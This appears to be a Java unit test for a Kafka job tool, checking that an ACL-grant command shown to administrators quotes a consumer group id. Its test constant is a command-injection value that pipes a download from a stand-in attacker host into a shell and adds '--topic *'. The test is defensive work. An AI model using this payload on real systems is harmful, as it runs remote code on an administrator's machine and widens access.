package io.onceflow.preflight;

import static org.assertj.core.api.Assertions.assertThat;

import io.onceflow.config.OnceflowConfig;
import io.onceflow.config.ValidSettings;
import java.lang.reflect.Proxy;
import java.util.Map;
import java.util.Optional;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.admin.ConsumerGroupDescription;
import org.apache.kafka.clients.admin.DescribeConsumerGroupsResult;
import org.apache.kafka.common.KafkaFuture;
import org.apache.kafka.common.errors.GroupAuthorizationException;
import org.apache.kafka.common.internals.KafkaFutureImpl;
import org.junit.jupiter.api.Test;

/**
 * Review of issue 34 (adversarial): the kafka-acls.sh command a problem line tells the operator to run
 * interpolates input.group.id unquoted. onceflow does not validate the group id and Kafka accepts any
 * string, so whoever writes the job's settings chooses extra arguments (or shell syntax) for the command
 * that a Kafka administrator is told to paste with the admin's credentials: here a command substitution
 * that runs on the administrator's machine, and Read on every topic (--topic *) for the job's principal.
 */
class KafkaAclCommandReviewTest {
    private static final String GROUP = "payments$(curl -s https://attacker.example/x | sh) --topic *";

    @Test
    void theGrantCommandQuotesTheGroupId() throws Exception {
        Map<String, String> settings = ValidSettings.required();
        settings.put("input.group.id", GROUP);
        settings.put("kafka.properties.sasl.jaas.config", "org.apache.kafka.common.security.scram.ScramLoginModule"
                + " required username=\"onceflow-job\" password=\"x\";");
        OnceflowConfig config = OnceflowConfig.fromMap(settings, Map.of());

        Optional<String> problem = new KafkaAccess(config).groupProblem(brokersRefusingTheGroup());

        assertThat(problem).hasValueSatisfying(line -> assertThat(line)
                .as("the command an administrator is told to run").doesNotContain("--group " + GROUP));
    }

    /** An admin client whose brokers refuse to describe any group to the principal. */
    private static Admin brokersRefusingTheGroup() {
        return (Admin) Proxy.newProxyInstance(Admin.class.getClassLoader(), new Class<?>[] {Admin.class},
                (proxy, method, args) -> {
                    if (method.getName().equals("describeConsumerGroups")) {
                        KafkaFutureImpl<ConsumerGroupDescription> refused = new KafkaFutureImpl<>();
                        refused.completeExceptionally(new GroupAuthorizationException("not authorized", GROUP));
                        return new DescribeConsumerGroupsResult(Map.<String, KafkaFuture<ConsumerGroupDescription>>of(
                                GROUP, refused));
                    }
                    throw new UnsupportedOperationException(method.getName());
                });
    }
}
